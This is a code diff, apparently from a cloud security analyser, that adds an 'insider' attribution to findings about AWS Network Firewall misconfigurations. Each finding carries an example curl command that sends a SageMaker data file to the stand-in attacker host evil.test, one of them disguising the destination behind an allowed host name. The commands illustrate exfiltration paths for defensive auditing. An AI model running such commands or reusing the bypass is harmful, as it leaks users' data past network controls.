@@ -41,6 +41,7 @@ struct NetworkFirewallRoute: Route {
           name,
           RouteWitness(
             "curl --data-binary @/home/sagemaker-user/data.csv https://evil.test/",
+            by: .insider("\(firewall.id)"),
             story: "The firewall's stateless default passes every packet before a stateful rule looks at it.",
             fix: "set StatelessDefaultActions to aws:forward_to_sfe", at: policy, "FirewallPolicy"))
       }
@@ -54,6 +55,7 @@ struct NetworkFirewallRoute: Route {
         name,
         RouteWitness(
           "curl --connect-to \(host):443:evil.test:443 -k --data-binary @/home/sagemaker-user/data.csv https://\(host)/",
+          by: .insider("\(firewall.id)"),
           story:
             "The client calls a host of the attacker's and claims to call \(host), which the firewall believes.",
           fix: "take away the route through \(firewall.id)", at: group, "RuleGroup"))
